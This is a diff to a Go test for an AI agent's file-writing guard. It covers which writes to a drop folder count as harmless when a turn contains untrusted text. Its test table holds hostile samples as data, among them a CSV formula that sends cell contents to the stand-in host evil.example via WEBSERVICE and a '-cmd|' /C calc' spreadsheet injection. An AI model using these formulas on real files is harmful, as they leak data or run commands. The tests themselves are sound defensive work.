@@ -4,13 +4,14 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"hob/tools"
 )
 
-// What a turn with outside text in it may write unasked: new plain documents in
-// the drop folder, and nothing else.
+// What a turn with untrusted text in it may write unasked: new documents in the drop
+// folder, which are rendered under a name of Hob's, and nothing else.
 func TestInertWrites(t *testing.T) {
 	b := newBench(t, func(o *Options) { o.Drop = "~/Documents/Hob"; o.Trusted = []string{"~/Documents/Hob/mine"} })
 	b.put("Documents/Hob/old.txt", "x")
@@ -43,19 +44,21 @@ func TestInertWrites(t *testing.T) {
 		{"a page", "Hob/a.html", text, false},
 		{"no ending", "Hob/Makefile", text, false},
 		{"two endings", "Hob/a.txt.bat", text, false},
-		{"instructions for agents", "Hob/AGENTS.md", text, false},
-		{"a package", "Hob/package.json", "{}", false},
+		{"instructions for agents", "Hob/AGENTS.md", text, true},
+		{"a package", "Hob/package.json", "{}", true},
 		{"a folder's name", "Hob/a.md/", text, false},
-		{"text that is a script", "Hob/a.txt", "#!/bin/sh\nid\n", false},
-		{"text that is a page", "Hob/a.txt", "<html><script>x</script>", false},
-		{"text that is PHP", "Hob/a.md", "\n<?php x", false},
-		{"text that is a picture", "Hob/a.txt", "\x89PNG\r\n\x1a\n", false},
+		{"text that is a script", "Hob/a.txt", "#!/bin/sh\nid\n", true},
+		{"text that is a page", "Hob/a.txt", "<html><script>x</script>", true},
+		{"text that is PHP", "Hob/a.md", "\n<?php x", true},
+		{"text that is a picture", "Hob/a.txt", "\x89PNG\r\n\x1a\n", true},
 		{"a document that is text", "Hob/a.pdf", text, false},
 		{"an invitation", "Hob/a.ics", "BEGIN:VCALENDAR", false},
-		{"a formula", "Hob/a.csv", "a,b\n1,=WEBSERVICE(\"https://evil.example/\"&A1)\n", false},
-		{"a formula after a semicolon", "Hob/a.csv", "a;=1+1\n", false},
-		{"a formula with a sign", "Hob/a.csv", "a,-cmd|' /C calc'!A0\n", false},
-		{"a formula after an at", "Hob/a.tsv", "a\t@SUM(1)\n", false},
+		{"a formula", "Hob/a.csv", "a,b\n1,=WEBSERVICE(\"https://evil.example/\"&A1)\n", true},
+		{"a formula after a semicolon", "Hob/a.csv", "a;=1+1\n", true},
+		{"a formula with a sign", "Hob/a.csv", "a,-cmd|' /C calc'!A0\n", true},
+		{"a formula after an at", "Hob/a.tsv", "a\t@SUM(1)\n", true},
+		{"more than is rendered", "Hob/a.txt", strings.Repeat("x", maxRendered+1), false},
+		{"binary", "Hob/a.txt", "a\x00b", false},
 		{"not allowed at all", "../outside/a.txt", text, false},
 	}
 	for _, tt := range tests {
@@ -65,7 +68,7 @@ func TestInertWrites(t *testing.T) {
 				t.Fatal(err)
 			}
 			j := tools.JudgementOf(t.Context(), b.by["write_file"], args)
-			if j.Inert != tt.want || (j.Exact != "") != tt.want {
+			if j.Inert != tt.want || strings.HasPrefix(j.Exact, newFileMark) != tt.want {
 				t.Errorf("%+v", j)
 			}
 		})
